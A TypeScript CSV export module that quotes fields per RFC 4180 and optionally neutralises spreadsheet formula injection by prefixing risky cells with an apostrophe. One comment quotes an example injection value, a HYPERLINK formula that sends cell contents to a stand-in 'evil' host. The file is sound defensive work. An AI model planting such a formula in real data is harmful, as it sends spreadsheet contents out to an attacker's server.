/**
 * CSV as RFC 4180 describes it, the way PostgreSQL's COPY ... CSV HEADER writes it: fields are
 * quoted when they contain a comma, a quote, CR or LF, or start or end with a space; quotes
 * inside are doubled; SQL NULL is an empty unquoted field and the empty string is "", so the two
 * stay distinguishable. Values are PostgreSQL's own text output (see export-user.ts).
 */
export function csvField(value: string | null): string {
  if (value === null) return '';
  if (value === '') return '""';
  if (/[",\r\n]/.test(value) || value.startsWith(' ') || value.endsWith(' ')) return `"${value.replace(/"/g, '""')}"`;
  return value;
}

export function csvLine(values: ReadonlyArray<string | null>, options: { neutraliseFormulas?: boolean } = {}): string {
  const cells = options.neutraliseFormulas ? values.map(neutraliseFormula) : values;
  return `${cells.map(csvField).join(',')}\r\n`;
}

/**
 * Spreadsheets run a cell starting with = + - @ (or a tab or CR before one of them) as a
 * formula: a customer named `=HYPERLINK("http://evil/?"&A1, "x")` would run on the data
 * officer's machine. Such cells get a leading apostrophe, which spreadsheets show as text and
 * which a person can see and remove. Plain numbers (-12.50, +63) are left alone: they cannot be
 * formulas, and an apostrophe would turn every negative amount into text.
 */
export function neutraliseFormula(value: string | null): string | null {
  if (value === null || !/^[=+\-@\t\r]/.test(value)) return value;
  if (/^[+-]?\d+(\.\d+)?([eE][+-]?\d+)?$/.test(value)) return value;
  return `'${value}`;
}
